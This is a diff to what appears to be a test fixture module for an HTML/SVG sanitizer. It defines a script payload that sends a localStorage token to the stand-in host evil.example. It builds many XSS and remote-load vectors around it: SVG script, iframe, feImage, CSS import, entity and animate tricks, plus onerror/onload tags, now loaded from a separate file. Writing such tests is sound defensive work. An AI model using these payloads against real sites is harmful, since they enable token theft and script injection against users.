@@ -3,10 +3,14 @@
 from __future__ import annotations
 
 import base64
+from pathlib import Path
 
 EVIL = "https://evil.example"
 CODE = f"localStorage.run=1;new Image().src='{EVIL}/'+localStorage.token;fetch('{EVIL}/f')"
-_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" %s>%s</svg>'
+_SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+    'xmlns:h="http://www.w3.org/1999/xhtml" %s>%s</svg>'
+)
 _PAGE = f"<!doctype html><title>x</title><script>{CODE}</script><img src='{EVIL}/i'>"
 _DRAWN = base64.b64encode((_SVG % ("", f"<script>{CODE}</script>")).encode()).decode()
 
@@ -42,32 +46,19 @@ FILES: dict[str, tuple[str, bytes]] = {  # name -> the type that a server sends 
     "frame.svg": ("image/svg+xml", _svg(f'<foreignObject><h:iframe src="{EVIL}"/></foreignObject>')),
     "image.svg": ("image/svg+xml", _svg(f'<image href="{EVIL}/1" width="9" height="9"/>')),
     "use.svg": ("image/svg+xml", _svg(f'<use href="data:image/svg+xml;base64,{_DRAWN}#x"/>')),
-    "fe.svg": ("image/svg+xml", _svg(f'<filter id="f"><feImage href="{EVIL}/2"/></filter><rect filter="url(#f)" width="9" height="9"/>')),
+    "fe.svg": ("image/svg+xml", _svg(f'<filter id="f"><feImage href="{EVIL}/2"/></filter><rect filter="url(#f)" width="9"/>')),
     "paint.svg": ("image/svg+xml", _svg(f'<rect fill="url({EVIL}/3#a)" width="9" height="9"/>')),
     "mask.svg": ("image/svg+xml", _svg(f'<rect mask="url({EVIL}/4#a)" width="9" height="9"/>')),
     "style.svg": ("image/svg+xml", _svg(f"<style>@import '{EVIL}/5.css';</style>")),
     "attribute.svg": ("image/svg+xml", _svg(f'<rect style="filter:url({EVIL}/6#f)" width="9" height="9"/>')),
-    "entity.svg": ("image/svg+xml", b"<!DOCTYPE svg [<!ENTITY e '&#60;script>" + CODE.encode() + b"&#60;/script>'>]>" + _svg("&e;")),
+    "entity.svg": ("image/svg+xml", f"<!DOCTYPE svg [<!ENTITY e '&#60;script>{CODE}'>]>".encode() + _svg("&e;")),
     "sheet.svg": ("image/svg+xml", f'<?xml-stylesheet href="{EVIL}/7.css"?>'.encode() + _svg("")),
-    "animated.svg": ("image/svg+xml", _svg(f'<a><animate attributeName="href" values="javascript:{CODE}"/><text y="9">x</text></a>')),
+    "animated.svg": ("image/svg+xml", _svg(f'<a><animate attributeName="href" values="javascript:{CODE}"/></a>')),
     "set.svg": ("image/svg+xml", _svg(f'<set attributeName="onload" to="{CODE}"/>')),
     "harmless.svg": ("image/svg+xml", _svg('<rect width="9" height="9" fill="red"/>')),
     "harmless.txt": ("text/plain", b"only words"),
 }  # fmt: skip
-ELEMENTS = (
-    f"<script>{CODE}</script>", '<script src="a.js"></script>', f'<img src="x" onerror="{CODE}">', f'<svg onload="{CODE}"></svg>',
-    f'<svg><image href="{EVIL}/1" width="9" height="9"/></svg>', f'<svg><image xlink:href="{EVIL}/2"/></svg>',
-    f'<svg><filter id="f"><feImage href="{EVIL}/3"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
-    f'<svg><rect fill="url({EVIL}/4#a)" width="9" height="9"/></svg>', f'<svg><rect mask="url({EVIL}/5#a)" width="9" height="9"/></svg>',
-    f'<svg><rect filter="url({EVIL}/6#a)" width="9" height="9"/></svg>', f'<svg><use href="{EVIL}/7.svg#a"/></svg>',
-    f'<svg><style>@import "{EVIL}/8.css"</style></svg>', f'<p style="background:url({EVIL}/9)">x</p>', f'<iframe src="{EVIL}"></iframe>',
-    f'<object data="{EVIL}/10"></object>', f'<embed src="{EVIL}/11">', f'<link rel="stylesheet" href="{EVIL}/12">',
-    f'<meta http-equiv="refresh" content="0;url={EVIL}/13">', f'<base href="{EVIL}/">', f'<video poster="{EVIL}/14"></video>',
-    f'<video src="{EVIL}/15" autoplay></video>', f'<audio src="{EVIL}/16" autoplay></audio>', f'<img src="{EVIL}/17">',
-    f'<img srcset="{EVIL}/18 1x">', f'<picture><source srcset="{EVIL}/19"><img></picture>', f'<table background="{EVIL}/20"><tr><td>x</table>',
-    f'<input type="image" src="{EVIL}/21">', f'<button formaction="{EVIL}">x</button>', f'<form action="{EVIL}"><input></form>',
-    f'<a href="javascript:{CODE}">x</a>', f'<details open ontoggle="{CODE}">x</details>', f'<math href="javascript:{CODE}">x</math>',
-    f'<input autofocus onfocus="{CODE}">', f'<body onload="{CODE}">', f'<track src="{EVIL}/22">', f'<image src="{EVIL}/23">',
-    f'<p>x</p>{{: style="background:url({EVIL}/24)" }}', f"![x]({EVIL}/25.png)", f'<svg><a xlink:href="javascript:{CODE}">x</a></svg>',
-    f'<svg><cursor href="{EVIL}/26"/></svg>', f'<frameset onload="{CODE}"></frameset>', f'<template><img src="{EVIL}/27"></template>',
-)  # fmt: skip
+ELEMENTS = tuple(
+    line.replace("{EVIL}", EVIL).replace("{CODE}", CODE)
+    for line in Path(__file__).with_name("strangers.txt").read_text("utf-8").splitlines()
+)
